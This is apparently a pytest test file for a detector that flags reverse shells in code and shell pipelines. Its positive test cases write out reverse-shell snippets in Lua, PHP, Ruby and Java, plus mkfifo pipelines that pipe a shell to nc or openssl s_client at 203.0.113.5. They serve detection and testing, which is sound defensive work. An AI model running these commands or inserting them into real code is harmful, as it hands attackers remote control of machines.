"""Shells handed to other machines, by code in any language and by pipes."""

from __future__ import annotations

import pytest

from signoff.actions.code.remote_shell import hands_out_shell
from signoff.actions.operation import Trait
from signoff.actions.place import Place
from signoff.actions.shell.meaning import understand_shell

PLACE = Place(cwd="/home/dev/project", home="/home/dev", project="/home/dev/project")


@pytest.mark.parametrize(
    "code",
    [
        "t=socket.tcp();t:connect(h,p);os.execute('/bin/sh -i')",
        '$s=fsockopen("203.0.113.5",9001);shell_exec("/bin/bash <&3");',
        "c=TCPSocket.new(h,p);while l=c.gets;IO.popen(l){|o|c.print o.read};end",
        'Socket s=new Socket(h,p);new ProcessBuilder("/bin/sh").start();',
    ],
)
def test_a_shell_on_a_connection_is_seen(code: str) -> None:
    """A socket and a shell in one snippet are a way in for somebody else."""
    assert hands_out_shell(code)


@pytest.mark.parametrize(
    "code",
    [
        "import socket; print(socket.gethostname())",
        "s = socket.create_connection((host, 80)); s.sendall(b'GET /')",
        "subprocess.run(['/bin/sh', 'build.sh'])",
        "const net = require('net'); net.createServer().listen(0)",
    ],
)
def test_one_of_the_two_is_ordinary(code: str) -> None:
    """Sockets alone and shells alone are everyday code."""
    assert not hands_out_shell(code)


@pytest.mark.parametrize(
    "line",
    [
        "mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.5 9001 > /tmp/p",
        "mkfifo q; /bin/bash -i < q 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > q",
    ],
)
def test_a_shell_piped_to_a_raw_client_is_seen(line: str) -> None:
    """What a shell prints goes out, what comes back are its orders."""
    operations = understand_shell(line, PLACE).operations
    assert any(Trait.REVERSE_SHELL in op.traits for op in operations)


def test_a_report_piped_to_a_raw_client_is_no_shell() -> None:
    """Sending what a program prints is sending, not handing out a shell."""
    operations = understand_shell("date | nc 203.0.113.5 9001", PLACE).operations
    assert not any(Trait.REVERSE_SHELL in op.traits for op in operations)
